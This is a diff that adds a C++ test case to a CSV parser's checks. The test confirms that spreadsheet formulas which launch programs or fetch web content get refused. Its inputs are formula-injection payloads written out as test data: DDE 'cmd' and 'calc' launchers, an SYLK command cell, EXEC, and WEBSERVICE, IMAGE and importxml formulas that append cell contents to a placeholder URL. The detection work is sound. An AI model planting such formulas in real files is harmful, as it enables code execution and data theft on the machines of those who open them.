@@ -27,6 +27,37 @@ void judge(grammar_function grammar, const table_case& c) {
   CHECK(o.offset == c.offset);
 }
 
+TEST_CASE("formulas that fetch or start something are refused where formulas only warn", "[csv]") {
+  const table_case cases[] = {
+      {"a sum", "a,=SUM(A1:A3)\n", ""},
+      {"a link to click on", "a,\"=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"\n", ""},
+      {"a list with bars behind a dash", "- one | two,3\n", ""},
+      {"a text that exclaims", "-what | is that!,3\n", ""},
+      {"a table with bars", "a|b\n-x|y!|z\n", ""},
+      {"a command in a table with bars", "a|b\n1|=cmd|' /C calc'!A0\n", "dynamic_data_exchange", 6},
+      {"a command", "a,=cmd|' /C calc'!A0\n", "dynamic_data_exchange", 2},
+      {"a command at the end of the file", "=cmd|' /C calc'!A0", "dynamic_data_exchange", 0},
+      {"a command in quotes", "a,\"=cmd|' /C calc'!A0\",b\n", "dynamic_data_exchange", 3},
+      {"a command behind a sum", "@SUM(1+1)*cmd|' /C calc'!A0\n", "dynamic_data_exchange", 0},
+      {"a command behind numbers", "1,-2+3+cmd|' /C calc'!A0\n", "dynamic_data_exchange", 2},
+      {"a command behind the other delimiter", "a,b;=cmd|' /C calc'!A0\n", "dynamic_data_exchange", 4},
+      {"a second formula", "=1+1\n=MSEXCEL|'\\..\\cmd.exe'!''\n", "dynamic_data_exchange", 5},
+      {"a function for DDE", "=DDE(\"cmd\";\"/C calc\";\"x\")\n", "dynamic_data_exchange", 0},
+      {"a symbolic link file", "ID;PWXL;N;E\r\nC;X1;Y1;K0;ECMD|calc!A0\r\nE\r\n", "type_mismatch", 0},
+      {"a table that begins like one", "ID;Price;Name\n1;2;K\n", ""},
+      {"a web service", "=WEBSERVICE(\"http://x/\"&A1)\n", "external_reference", 0},
+      {"a picture from the web", "=IMAGE(\"http://x/\"&A1)\n", "external_reference", 0},
+      {"a feed", "=importxml(CONCAT(\"http://x/\",A1),\"//a\")\n", "external_reference", 0},
+      {"a program", "=EXEC(\"calc\")\n", "macros", 0},
+  };
+  for (const table_case& c : cases) {
+    CAPTURE(c.what);
+    const test::outcome o = test::read_every_split(csv, c.input);
+    CHECK(o.reason == c.reason);
+    CHECK(o.offset == c.offset);
+  }
+}
+
 TEST_CASE("CSV cells that spreadsheets run", "[csv]") {
   const table_case cases[] = {
       {"plain", "a,b\r\n1,2\r\n", ""},
